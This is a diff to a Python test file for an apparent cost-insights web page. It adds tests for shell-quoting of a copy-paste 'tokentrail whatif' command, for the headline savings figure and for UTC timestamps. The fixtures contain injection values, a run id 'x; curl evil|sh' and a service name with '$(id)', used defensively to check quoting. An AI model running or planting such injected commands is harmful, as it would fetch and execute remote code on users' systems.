@@ -7,6 +7,7 @@ from __future__ import annotations
 import html as htmllib
 import itertools
 import re
+import shlex
 from collections.abc import Iterator
 from datetime import datetime, timedelta, timezone
 
@@ -34,6 +35,14 @@ QUEUE = [Call(IMG if i == 11 else f"q-{i:02d}", 1, at=5.0 * i, uncached=2000 + 1
 # unread_cache_writes: three 5m writes ten minutes apart that no call reads.
 UNREAD = [Call(f"w-{i}", 1, at=600.0 * i, w5=5000, uncached=10, output=20, service="writer")
           for i in range(3)]
+# A run id a shell would run as two commands: an uncached_prefix run 20 days back, out of
+# RANGE, so the page's copy-paste `tokentrail whatif --run ...` has to quote it.
+SHELLISH = "x; curl evil|sh"
+SHELLISH_AT = -20 * 86400.0
+SHELL = [Call(SHELLISH, k, at=SHELLISH_AT + 30.0 * k, uncached=40_000 + 500 * k, output=200,
+              service="prefix", model=SONNET) for k in range(1, 7)]
+SHELL_RANGE = {"start": (NOW + timedelta(seconds=SHELLISH_AT - 3600)).isoformat(),
+               "end": (NOW + timedelta(seconds=SHELLISH_AT + 3600)).isoformat()}
 
 
 def seed_alternative() -> float:
@@ -49,7 +58,7 @@ def seed_alternative() -> float:
 def client(tmp_path_factory) -> Iterator:
     store = Store.open(f"chdb://{tmp_path_factory.mktemp('insights') / 'data'}")
     try:
-        ingest(store, SEED + QUEUE + UNREAD)
+        ingest(store, SEED + QUEUE + UNREAD + SHELL)
         with ui(store) as c:
             yield c
     finally:
@@ -81,7 +90,41 @@ def test_findings_ranked_by_savings(data):
     assert savings == sorted(savings, reverse=True)
     assert {f["kind"] for f in data["findings"]} == {
         "uncached_prefix", "batch_candidate", "unread_cache_writes"}
-    assert data["total_savings_usd"] == pytest.approx(sum(savings))
+    # Findings overlap (one run can be uncached_prefix and context_growth, one service's
+    # calls batch and routing candidates): the page's headline is the largest one, never
+    # their sum.
+    assert data["largest_savings_usd"] == pytest.approx(max(savings))
+    assert "total_savings_usd" not in data
+
+
+def test_the_headline_is_the_largest_finding_not_a_sum(page, data):
+    savings = [f["savings_usd"] for f in data["findings"]]
+    headline = text(re.search(r'<p class="headline">(.*?)</p>', page, re.S).group(1))
+    assert usd(max(savings)) in headline and "overlap" in headline
+    assert usd(sum(savings)) not in headline
+
+
+def test_first_and_last_seen_are_utc_with_an_offset(data):
+    f = finding(data, "uncached_prefix")
+    first, last = (datetime.fromisoformat(f[k]) for k in ("first_seen", "last_seen"))
+    assert first.utcoffset() == last.utcoffset() == timedelta(0), (first, last)
+    # Stored at millisecond precision: the first and last calls of SEED.
+    assert abs(first - (NOW + timedelta(seconds=SEED[0].at))) < timedelta(milliseconds=1)
+    assert abs(last - (NOW + timedelta(seconds=SEED[-1].at))) < timedelta(milliseconds=1)
+
+
+def test_the_whatif_command_is_shell_quoted(client):
+    """The copy-paste command line splits, as a shell would, into the same arguments:
+    a run id with `;` and `|` stays one argument instead of running `curl evil|sh`."""
+    page = client.get("/insights", params=SHELL_RANGE).text
+    (body,) = [b for kind, b in articles(page) if kind == "uncached_prefix"]
+    line = text(re.search(r'<code class="whatif-command">(.*?)</code>', body, re.S).group(1))
+    args = shlex.split(line)
+    assert args[:5] == ["tokentrail", "whatif", "cache_prefix", "--run", SHELLISH], line
+    assert args[5::2] == ["--start", "--end"] and len(args) == 9, line
+    service = insights_router.whatif_command("batch", insights_router.time_range(
+        None, None, "7d"), service=SCRIPT + " $(id)")
+    assert shlex.split(service)[3:5] == ["--service", SCRIPT + " $(id)"]
 
 
 def test_uncached_prefix_with_its_whatif(data):
